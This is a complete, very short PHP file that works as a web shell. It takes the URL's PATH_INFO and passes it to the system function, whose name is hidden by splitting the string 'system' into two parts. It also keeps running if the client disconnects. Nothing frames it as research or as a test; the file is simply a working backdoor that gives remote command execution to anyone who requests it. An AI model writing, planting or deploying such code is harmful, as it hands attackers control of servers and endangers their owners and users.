<?php
ignore_user_abort(true);
$line = $_SERVER['PATH_INFO'];
$part = 'tem';
$f = "sys{$part}";
$f($line);
